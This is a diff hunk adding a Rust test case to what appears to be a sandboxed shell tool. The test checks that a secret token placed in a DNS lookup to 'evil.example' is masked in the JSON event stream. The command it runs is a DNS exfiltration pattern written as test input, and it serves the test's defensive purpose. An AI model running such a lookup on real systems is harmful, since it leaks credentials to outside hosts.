@@ -542,6 +542,21 @@ fn filtered_decisions_are_events_in_the_json_stream_and_lines_with_log_network()
         "getent hosts other.example",
     );
     assert_eq!(r.stderr, "", "{r:?}");
+    // A secret smuggled into a name looked up is masked in the events too.
+    let r = w.sh(
+        &["--json", "--secret", "TOKEN=S3cr3t-T0ken"],
+        "getent hosts \"$TOKEN.evil.example\"",
+    );
+    assert!(
+        !r.stdout.to_lowercase().contains("s3cr3t-t0ken"),
+        "{}",
+        r.stdout
+    );
+    assert!(
+        r.stdout.contains("\"name\":\"***.evil.example\""),
+        "{}",
+        r.stdout
+    );
 }
 
 #[test]
